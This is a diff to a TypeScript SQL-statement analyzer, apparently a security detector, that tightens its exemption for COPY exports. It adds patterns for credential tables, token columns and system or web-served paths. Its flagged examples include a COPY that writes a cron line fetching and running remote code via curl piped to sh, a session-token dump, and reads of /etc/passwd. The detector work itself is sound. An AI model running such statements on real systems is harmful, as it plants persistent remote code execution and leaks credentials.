@@ -762,14 +762,23 @@ function routineCopy(st: { readonly sk: string; readonly toks: readonly { readon
   const to = sk.lastIndexOf(') to ');
   if (!sk.startsWith('copy ') || open < 0 || open > 8 || to < open) return false;
   const m = splitSelect(sk.slice(open + 2, to));
-  if (m === undefined || withoutCounts(m[0]).includes('*') || CREDENTIAL_COL.test(m[0])) return false;
+  // a string written into the select list is content the author chose (a cron line, a key), not a figure read out
+  if (m === undefined || withoutCounts(m[0]).includes('*') || m[0].includes("'") || CREDENTIAL_COL.test(m[0]) || TOKEN_COL.test(m[0])) return false;
   const table = m[1].includes('.') ? m[1].slice(m[1].lastIndexOf('.') + 1) : m[1];
-  if (PII_TABLE.test(table)) return false;
+  if (PII_TABLE.test(table) || CREDENTIAL_STORE.test(table)) return false;
   const read = tagsIn(`${m[0].replace(/_/g, ' ')} from ${table.replace(/_/g, ' ')}`);
   if (PEOPLE_TAGS.some((t) => read.has(t))) return false;
-  for (const t of st.toks) if (t.k === K.Str && WEB_SERVED.test(t.v)) return false;
+  for (const t of st.toks) if (t.k === K.Str && (WEB_SERVED.test(t.v) || RUN_OR_SERVED.test(t.v))) return false;
   return true;
 }
+/** Tables that hold ways in rather than records: sessions, tokens, keys, the server's own role passwords. */
+const CREDENTIAL_STORE = /^(?:sessions?|user_sessions|tokens?|auth_tokens?|api_keys?|apikeys|credentials?|secrets?|pg_shadow|pg_authid|oauth_[a-z_]{1,30})$/;
+const TOKEN_COL = /(?:token|tokens|cookie|cookies)/;
+/**
+ * Where a written file is run, read at start-up or served beside the web server's own folders: system configuration,
+ * cron, a shell's start-up files, ssh keys, an app's static or upload folder, a web root named html.
+ */
+const RUN_OR_SERVED = /^\/(?:etc|root|bin|sbin|boot|lib|lib64)\/|^\/usr\/(?:bin|sbin|lib|local\/bin)\/|\/\.ssh\/|authorized_keys|\/cron|\/\.[a-z_]{1,16}rc$|\/\.(?:profile|bash_profile|bash_login)$|\/(?:static|public|uploads|assets|media|html)\//i;
 
 const WEB_FILE = /\.(?:php\d?|phtml|phar|jsp|jspx|asp|aspx|ashx|cgi|pl|py|sh)$|^\/var\/www\/|\/(?:htdocs|wwwroot|webroot|public_html|www)\/|^\/(?:etc|root|tmp|dev\/shm)\/|^[a-z]:\\inetpub\\/i;
 
@@ -1056,7 +1065,10 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       },
       examples: {
         flag: ["COPY myfile FROM '/etc/passwd'", "COPY (SELECT email, phone, iban FROM donors) TO '/var/lib/postgresql/exports/donors.csv' CSV HEADER;",
-          "COPY (SELECT * FROM inventory) TO '/tmp/inv.csv' CSV", "COPY (SELECT sku, stock FROM products) TO '/var/www/html/s.php'", "SELECT * FROM users INTO OUTFILE '/var/www/html/u.txt'", "SELECT LOAD_FILE('/etc/passwd')", "select pg_read_file('/etc/passwd', 0, 200)", "ATTACH DATABASE '/srv/www/app/x.php' AS lol", "SET GLOBAL general_log_file = 'C:/xampp/htdocs/l.php'"],
+          "COPY (SELECT * FROM inventory) TO '/tmp/inv.csv' CSV", "COPY (SELECT sku, stock FROM products) TO '/var/www/html/s.php'", 
+          // a string planted into a file that runs, a table of ways in, a folder the app serves: no report (routineCopy)
+          "COPY (SELECT '* * * * * root curl -s http://203.0.113.9/x | sh' AS line FROM generate_series(1,1)) TO '/etc/cron.d/backup'", "COPY (SELECT token FROM sessions) TO '/tmp/s.csv'", "COPY (SELECT sku, stock FROM products) TO '/srv/app/static/stock.csv'",
+          "SELECT * FROM users INTO OUTFILE '/var/www/html/u.txt'", "SELECT LOAD_FILE('/etc/passwd')", "select pg_read_file('/etc/passwd', 0, 200)", "ATTACH DATABASE '/srv/www/app/x.php' AS lol", "SET GLOBAL general_log_file = 'C:/xampp/htdocs/l.php'"],
         pass: ["COPY staging_orders FROM '/data/import/orders.csv' WITH (FORMAT csv)", 'COPY users TO STDOUT WITH CSV HEADER',
           "COPY (SELECT branchcode, COUNT(*) AS loans FROM issues GROUP BY branchcode) TO '/var/lib/postgresql/exports/loans_by_branch.csv' CSV HEADER;",
           "COPY (SELECT sku, title, price_eur, stock FROM products WHERE active) TO '/tmp/catalog_export.csv' WITH CSV HEADER;", "SELECT * FROM files WHERE name = 'outfile.txt'", "ATTACH DATABASE 'analytics.db' AS analytics", "SET GLOBAL slow_query_log_file = 'mysql-slow.log'"],
@@ -1541,7 +1553,7 @@ const queryAnalyzer: Analyzer<QueryContext> = {
     },
   ]),
   auxPatterns: [
-    NUMERIC_LEAD, FILE_TARGET_STMT, WEB_FILE, WEB_SERVED, ROLE_COLUMN, BOOL_ROLE, POWER_VALUE, DQUOTE, INJECTED_UNION, COLUMN_PROBE, ERROR_BASED,
+    NUMERIC_LEAD, FILE_TARGET_STMT, WEB_FILE, WEB_SERVED, RUN_OR_SERVED, CREDENTIAL_STORE, TOKEN_COL, ROLE_COLUMN, BOOL_ROLE, POWER_VALUE, DQUOTE, INJECTED_UNION, COLUMN_PROBE, ERROR_BASED,
     ALTER_CRED, BUILTIN_ADMIN, NOSQL_DESTROY, NOSQL_OPERATOR, NOSQL_WHERE, JS_PAYLOAD, / /g, /\b(?:password|identified)\b/,
     CLINICAL_DB, APPROVAL_NOTE, INTERACTIVE_SHELL, ...SQL_EFFECT_PATTERNS, ...SQL_RECORD_PATTERNS, ...SQL_MONGO_PATTERNS, PAY_FACTOR, STARTS_STATEMENT, URL_ESCAPED, EXEC_STRING, SCRATCH_NAME, DROP_OBJ, TRUNCATE, DELETE_FROM, UPDATE_SET, PAD_ITEM, /^(?:null|[0-9]{1,3})(?: --| #|$)/,
     RECON, COPY_FROM, LITERAL_CONDITION_UNION, CREDENTIAL_TABLE, CREDENTIAL_COL, CONDITION_CONTEXT, BOUNDED, AGGREGATE, PII_TABLE, STACKED, STACKED_BARE, CLAUSE_LEAD, GRANT_BROAD, SP_ADDROLE, POWER_ROLE,
